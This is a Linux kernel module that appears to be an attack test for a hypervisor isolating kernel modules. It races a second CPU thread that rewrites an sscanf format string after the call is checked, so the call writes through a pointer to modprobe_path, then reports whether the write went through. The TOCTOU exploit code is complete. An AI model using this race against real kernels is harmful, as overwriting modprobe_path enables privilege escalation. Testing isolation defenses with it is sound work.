// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: change what a write-through call was judged by after the check
 * (time of check, time of use). sscanf is judged by its format: "%d %*s "
 * stores one int, into a variable of ours. A thread of ours on the other
 * CPU turns the NUL after it into a '%' while the kernel runs the call,
 * which makes the format "%d %*s %d": one more int, stored through the
 * pointer we pass as the next argument, modprobe_path. The kernel's
 * vsscanf reads that byte only after it has skipped a 64 KiB token,
 * long after the hypervisor read the format at the call (while the thread
 * was out of our code: one CPU at a time runs an isolated module, and we
 * ran it then). A call judged by the one conversion that then ran with two
 * would write modprobe_path.
 */
#include <linux/module.h>
#include <linux/kthread.h>
#include <linux/completion.h>
#include <linux/delay.h>
#include <linux/string.h>
#include <linux/slab.h>
#include <linux/kernel.h>
#include "alias.h"

static unsigned long modprobe;
module_param(modprobe, ulong, 0400);
static unsigned int rounds = 20;
module_param(rounds, uint, 0400);

/* The byte the thread flips: the NUL after "%d %*s ". */
#define FLIP 7
static char fmt[] = "%d %*s \0d";
/* "7 ", a 64 KiB token, " 7". */
#define TOKEN (64 << 10)
static int stop;
static DECLARE_COMPLETION(started);

static int flipper(void *unused)
{
	unsigned long i;

	complete(&started);
	while (!READ_ONCE(stop)) {
		/* In our code again: the other CPU is inside its call. */
		WRITE_ONCE(fmt[FLIP], '%');
		for (i = 0; i < 200000 && !READ_ONCE(stop); i++)
			cpu_relax();
		WRITE_ONCE(fmt[FLIP], '\0');
		/* Out of our code: the other CPU comes back into it, and makes
		 * its next call while the format reads "%d %*s ". */
		udelay(1);
	}
	return 0;
}

static int __init atk_init(void)
{
	int (*volatile scan)(const char *, const char *, ...) = sscanf;
	unsigned int i, one = 0, refused = 0, two = 0;
	struct task_struct *thread;
	char before[8], *input;

	if (!modprobe)
		return -EINVAL;
	if (num_online_cpus() < 2) {
		report("one CPU: no race to run");
		return -EACCES;
	}
	/* The thread first: once an access of ours is refused, the kernel
	 * may no longer enter our code to start it. */
	thread = kthread_create(flipper, NULL, "atk_toctou");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	get_task_struct(thread);
	kthread_bind(thread, 1);
	wake_up_process(thread);
	wait_for_completion(&started);
	input = kmalloc(TOKEN + 8, GFP_KERNEL);
	if (input) {
		memcpy(before, (void *)modprobe, sizeof(before));
		input[0] = '7';
		input[1] = ' ';
		memset(input + 2, 'a', TOKEN);
		memcpy(input + 2 + TOKEN, " 7", 3);
	}
	for (i = 0; input && i < rounds; i++) {
		int mine = 0;
		int n = scan(input, fmt, &mine, (int *)modprobe);

		if (n == 2)
			two++;
		else if (n == 1)
			one++;
		else
			refused++;
		if (memcmp(before, (void *)modprobe, sizeof(before)))
			break;
	}
	WRITE_ONCE(stop, 1);
	kthread_stop(thread);
	put_task_struct(thread);
	kfree(input);
	report("%u calls: %u ran with one conversion, %u with two, %u refused", i, one, two, refused);
	report("sscanf format changed after its check %s", !input ? "NOT RUN" :
	       two || memcmp(before, (void *)modprobe, sizeof(before)) ? "WENT THROUGH" : "blocked");
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
